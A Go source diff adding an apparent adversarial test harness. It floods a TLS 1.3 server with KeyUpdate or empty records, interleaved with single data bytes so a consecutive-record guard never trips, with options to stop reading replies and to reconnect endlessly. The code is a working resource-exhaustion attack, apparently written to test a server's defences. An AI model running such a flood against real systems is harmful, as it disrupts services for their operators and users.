@@ -1,0 +1,246 @@
+package adversary
+
+import (
+	"context"
+	"crypto/tls"
+	"errors"
+	"fmt"
+	"io"
+
+	"net/netip"
+	"sync"
+	"sync/atomic"
+	"time"
+)
+
+// FloodKind is what a flood sends between its bytes of line data.
+type FloodKind int
+
+const (
+	// KeyUpdates are TLS 1.3 KeyUpdate(update_requested) records: each one
+	// makes the server derive two keys and send a KeyUpdate back.
+	KeyUpdates FloodKind = iota
+	// EmptyRecords are application-data records with no data.
+	EmptyRecords
+)
+
+func (k FloodKind) String() string {
+	if k == EmptyRecords {
+		return "empty-records"
+	}
+	return "keyupdates"
+}
+
+// Flood opens TLS 1.3 sessions and, once established, sends records that
+// carry no application data, with one byte of line data after every
+// DataEvery of them, so a guard that counts only consecutive useless
+// records never trips. The line data never ends a line; a server without a
+// better bound ends the session when the line grows past the protocol's
+// limit (after about 1,000 bytes, i.e. 1,000*DataEvery records).
+type Flood struct {
+	Target Target
+	Source netip.Addr
+	Kind   FloodKind
+	// DataEvery is how many useless records go before each data byte; 0
+	// means 4.
+	DataEvery int
+	// NoRead never reads what the server sends, with a small receive
+	// buffer, so what the server must write piles up on its side.
+	NoRead bool
+	// Reconnect opens a new session whenever the server ends one.
+	Reconnect bool
+	// Batch is how many records go out per write; 0 means 32.
+	Batch int
+}
+
+// FloodStats are a flood's counters so far.
+type FloodStats struct {
+	Sessions       int64 // sessions established
+	Records        int64 // useless records sent
+	DataBytes      int64
+	ClosedByServer int64 // sessions the server ended
+	Errors         int64 // connects or handshakes that failed
+	// MaxRecordsPerSession is the most useless records one session got in
+	// before the server ended it.
+	MaxRecordsPerSession int64
+}
+
+// FloodRun is a running flood.
+type FloodRun struct {
+	cfg    Flood
+	cancel context.CancelFunc
+	done   chan struct{}
+
+	sessions, records, data, closed, errs, maxPer atomic.Int64
+	mu                                            sync.Mutex
+	lastErr                                       error
+}
+
+// Start runs the flood in the background.
+func (f Flood) Start(ctx context.Context) (*FloodRun, error) {
+	if err := f.Target.check(); err != nil {
+		return nil, err
+	}
+	if !f.Source.IsValid() {
+		return nil, errors.New("adversary: flood needs a source address")
+	}
+	if f.DataEvery <= 0 {
+		f.DataEvery = 4
+	}
+	if f.Batch <= 0 {
+		f.Batch = 32
+	}
+	ctx, cancel := context.WithCancel(ctx)
+	r := &FloodRun{cfg: f, cancel: cancel, done: make(chan struct{})}
+	go func() {
+		defer close(r.done)
+		for ctx.Err() == nil {
+			err := r.session(ctx)
+			if ctx.Err() != nil {
+				return
+			}
+			if err != nil {
+				r.errs.Add(1)
+				r.setErr(err)
+				select { // a refused flooder does not spin
+				case <-ctx.Done():
+				case <-time.After(20 * time.Millisecond):
+				}
+			}
+			if !f.Reconnect {
+				return
+			}
+		}
+	}()
+	return r, nil
+}
+
+func (r *FloodRun) setErr(err error) {
+	r.mu.Lock()
+	r.lastErr = err
+	r.mu.Unlock()
+}
+
+// LastErr is the last connect or handshake error, if any.
+func (r *FloodRun) LastErr() error {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	return r.lastErr
+}
+
+// session runs one flooding session until the server ends it (nil) or it
+// cannot start (an error).
+func (r *FloodRun) session(ctx context.Context) error {
+	rcvBuf := 0
+	if r.cfg.NoRead {
+		rcvBuf = 4096
+	}
+	raw, err := dialFrom(ctx, r.cfg.Source, r.cfg.Target.Addr, rcvBuf)
+	if err != nil {
+		return err
+	}
+	defer raw.Close()
+	stop := context.AfterFunc(ctx, func() { raw.Close() })
+	defer stop()
+
+	kl := &keyLog{}
+	cc := r.cfg.Target.TLS.Clone()
+	if cc.ServerName == "" {
+		cc.ServerName = "localhost"
+	}
+	cc.MinVersion, cc.MaxVersion = tls.VersionTLS13, tls.VersionTLS13
+	cc.KeyLogWriter = kl
+	conn := tls.Client(raw, cc)
+	_ = raw.SetDeadline(time.Now().Add(10 * time.Second))
+	if err := conn.HandshakeContext(ctx); err != nil {
+		return fmt.Errorf("flood handshake: %w", err)
+	}
+	_ = raw.SetDeadline(time.Time{})
+	st := conn.ConnectionState()
+	if st.Version != tls.VersionTLS13 {
+		return errNotTLS13
+	}
+	seal, err := newSealer(st.CipherSuite, kl.clientSecret())
+	if err != nil {
+		return err
+	}
+	r.sessions.Add(1)
+
+	serverGone := make(chan struct{})
+	if !r.cfg.NoRead {
+		// Read and drop what the server sends (its KeyUpdates, HELLO, a
+		// FAIL line); EOF means it ended the session.
+		go func() {
+			defer close(serverGone)
+			_, _ = io.Copy(io.Discard, raw)
+		}()
+	}
+	var sent int64
+	defer func() {
+		if ctx.Err() == nil {
+			r.closed.Add(1)
+		}
+		for {
+			m := r.maxPer.Load()
+			if sent <= m || r.maxPer.CompareAndSwap(m, sent) {
+				return
+			}
+		}
+	}()
+	buf := make([]byte, 0, r.cfg.Batch*64)
+	n := 0
+	for {
+		buf = buf[:0]
+		useless, data := 0, 0
+		for range r.cfg.Batch {
+			n++
+			if n%(r.cfg.DataEvery+1) == 0 {
+				buf = seal.seal(buf, recordTypeApplicationData, []byte{'x'})
+				data++
+				continue
+			}
+			if r.cfg.Kind == EmptyRecords {
+				buf = seal.seal(buf, recordTypeApplicationData, nil)
+			} else if buf, err = seal.keyUpdate(buf, true); err != nil {
+				return err
+			}
+			useless++
+		}
+		if _, err := raw.Write(buf); err != nil {
+			return nil // the server ended it (or ctx did)
+		}
+		sent += int64(useless)
+		r.records.Add(int64(useless))
+		r.data.Add(int64(data))
+		select {
+		case <-serverGone:
+			return nil
+		default:
+		}
+	}
+}
+
+// Stats reads the counters.
+func (r *FloodRun) Stats() FloodStats {
+	return FloodStats{
+		Sessions: r.sessions.Load(), Records: r.records.Load(), DataBytes: r.data.Load(),
+		ClosedByServer: r.closed.Load(), Errors: r.errs.Load(), MaxRecordsPerSession: r.maxPer.Load(),
+	}
+}
+
+// Wait waits until the flood ends by itself (without Reconnect, when the
+// server ended its session) or d passes; it reports whether it ended.
+func (r *FloodRun) Wait(d time.Duration) bool {
+	select {
+	case <-r.done:
+		return true
+	case <-time.After(d):
+		return false
+	}
+}
+
+// Stop ends the flood and waits for it.
+func (r *FloodRun) Stop() {
+	r.cancel()
+	<-r.done
+}
